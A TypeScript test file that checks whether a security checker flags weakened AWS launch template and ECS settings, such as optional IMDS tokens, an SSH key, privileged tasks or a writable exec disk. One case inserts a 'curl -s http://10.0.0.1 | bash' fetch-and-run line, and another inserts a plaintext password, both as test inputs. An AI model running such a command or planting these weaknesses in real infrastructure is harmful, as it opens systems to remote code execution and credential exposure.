import { SERVER_CLAIMS } from '../../../lib/check/server/server-claims';
import { WORKLOAD_CLAIMS } from '../../../lib/check/workload/workload-claims';
import { complained, type Fault } from '../decided';
import { exchange, LAUNCH, set } from '../edits';

const BROKEN = ['instance-metadata-v2 broken'];
const UNKNOWN_SCRIPT = [
  'identity-key-by-reference unproven',
  'instance-metadata-v2 unproven',
  'node-replaced-with-its-disk unproven',
  'secrets-by-reference unproven',
  'unprivileged unproven',
];
const LOOKED_UP = '{{resolve:ssm:/aws/service/ecs/optimized-ami/amazon-linux-2023/recommended/image_id}}';

const FAULTS: readonly Fault[] = [
  ['version 1 of the metadata service', set(LAUNCH, { MetadataOptions: { HttpTokens: 'optional' } }), BROKEN],
  ['no word about the metadata service', set(LAUNCH, { MetadataOptions: undefined }), BROKEN],
  ['two hops', set(LAUNCH, { MetadataOptions: { HttpPutResponseHopLimit: 2 } }), BROKEN],
  ['no word about hops', set(LAUNCH, { MetadataOptions: { HttpPutResponseHopLimit: undefined } }), BROKEN],
  [
    'a metadata service over IPv6',
    set(LAUNCH, { MetadataOptions: { HttpProtocolIpv6: 'enabled' } }),
    ['instance-metadata-v2 unproven'],
  ],
  ['a key for a shell', set(LAUNCH, { KeyName: 'everybody' }), BROKEN],
  ['an enclave', set(LAUNCH, { EnclaveOptions: { Enabled: true } }), ['instance-metadata-v2 unproven']],
  ['tasks at the metadata service', exchange('BLOCK_IMDS=true', 'BLOCK_IMDS=false'), BROKEN],
  ['no word about tasks at the metadata service', exchange('ECS_AWSVPC_BLOCK_IMDS=true\n', ''), BROKEN],
  ['no user data', set(LAUNCH, { UserData: undefined }), [...BROKEN, 'node-replaced-with-its-disk unproven']],
  ['privileged tasks', exchange('DISABLE_PRIVILEGED=true', 'DISABLE_PRIVILEGED=false'), UNKNOWN_SCRIPT],
  ['a line that nobody knows', exchange('systemctl daemon-reload', 'curl -s http://10.0.0.1 | bash'), UNKNOWN_SCRIPT],
  ['a disk that runs programs', exchange('nodev,nosuid,noexec', 'nodev,nosuid'), UNKNOWN_SCRIPT],
  [
    'a password among the lines',
    exchange('TIMEOUT_SECONDS=900', 'TIMEOUT_SECONDS=900\nDB_PASSWORD=hunter22'),
    ['secrets-by-reference broken', ...UNKNOWN_SCRIPT].toSorted(),
  ],
  ['an image that is looked up', set(LAUNCH, { ImageId: LOOKED_UP }), ['images-by-digest broken']],
  ['an image that whoever deploys gives', set(LAUNCH, { ImageId: { Ref: 'Image' } }), ['images-by-digest unproven']],
  ['no image', set(LAUNCH, { ImageId: undefined }), ['images-by-digest unproven']],
];

test.each(FAULTS)('%s: is told', (_what, edit, expected) => {
  expect(complained('Orders', [...SERVER_CLAIMS, ...WORKLOAD_CLAIMS], edit)).toEqual(expected);
});
